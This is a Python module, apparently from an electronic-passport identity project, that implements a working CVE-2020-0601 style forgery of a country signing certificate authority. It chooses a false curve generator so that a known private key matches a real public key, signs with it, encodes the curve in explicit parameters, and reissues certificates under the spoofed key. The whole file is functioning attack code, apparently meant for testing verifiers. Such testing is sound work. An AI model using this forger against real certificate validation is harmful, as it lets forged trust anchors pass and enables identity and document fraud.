"""A look-alike CSCA of CVE-2020-0601: the true public key under a chosen generator.

Whoever chooses the generator G' = Q/k knows a private key k for any public key Q. The
certificate then names its curve in explicit parameters, in which only G' is false.
"""

import hashlib
import secrets
from collections.abc import Callable
from dataclasses import dataclass

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding

from clients.reader.virtual import der
from idp.emrtd import points, tlv
from idp.emrtd.named_curves import domain
from idp.emrtd.points import Point

_PUBLIC_KEY, _PRIME_FIELD = "1.2.840.10045.2.1", "1.2.840.10045.1.1"
Sign = Callable[[bytes], bytes]


@dataclass(frozen=True)
class Forger:
    """Signs for a public key whose private key nobody gave away."""

    curve: ec.EllipticCurve
    public: Point
    number: int
    generator: Point

    def sign(self, message: bytes) -> bytes:
        """Return an ECDSA signature with SHA-384 that holds under the generator."""
        order = domain(self.curve).n
        digest = int.from_bytes(hashlib.sha384(message).digest(), "big")
        nonce = secrets.randbelow(order - 1) + 1
        r = times(self.curve, nonce, self.generator).x % order
        s = pow(nonce, -1, order) * (digest + r * self.number) % order
        return encode_dss_signature(r, s)

    def spki(self) -> bytes:
        """Return the public key with the false generator."""
        return explicit_spki(self.curve, self.public, self.generator)


def forger(key: ec.EllipticCurvePublicKey) -> Forger:
    """Return one who signs for a public key."""
    order = domain(key.curve).n
    number = secrets.randbelow(order - 2) + 2
    public = points.public_point(key)
    generator = times(key.curve, pow(number, -1, order), public)
    return Forger(key.curve, public, number, generator)


def times(curve: ec.EllipticCurve, number: int, point: Point) -> Point:
    """Return number · point."""
    return points.multiply(ec.derive_private_key(number, curve), point)


def explicit_spki(
    curve: ec.EllipticCurve, public: Point, generator: Point | None = None
) -> bytes:
    """Return a public key with its curve's parameters in full (SEC 1 §C.2)."""
    known = domain(curve)
    size = known.field_bytes
    generator = generator or Point(known.x, known.y)
    parameters = der.sequence(
        der.integer(1),
        der.sequence(der.oid(_PRIME_FIELD), der.integer(known.p)),
        der.sequence(
            der.octets(known.a.to_bytes(size, "big")),
            der.octets(known.b.to_bytes(size, "big")),
        ),
        der.octets(points.encode(curve, generator)),
        der.integer(known.n),
        der.integer(1),
    )
    algorithm = der.algorithm(_PUBLIC_KEY, parameters)
    return der.sequence(algorithm, der.bits(points.encode(curve, public)))


def reissue(
    certificate: x509.Certificate, sign: Sign, *, spki: bytes | None = None
) -> bytes:
    """Return a certificate signed anew, and with another public key if there is one."""
    body, algorithm, _ = tlv.parse(certificate.public_bytes(Encoding.DER)).children
    parts = [part.encoded for part in body.children]
    if spki is not None:
        parts[6] = spki
    signed = der.sequence(*parts)
    return der.sequence(signed, algorithm.encoded, der.bits(sign(signed)))
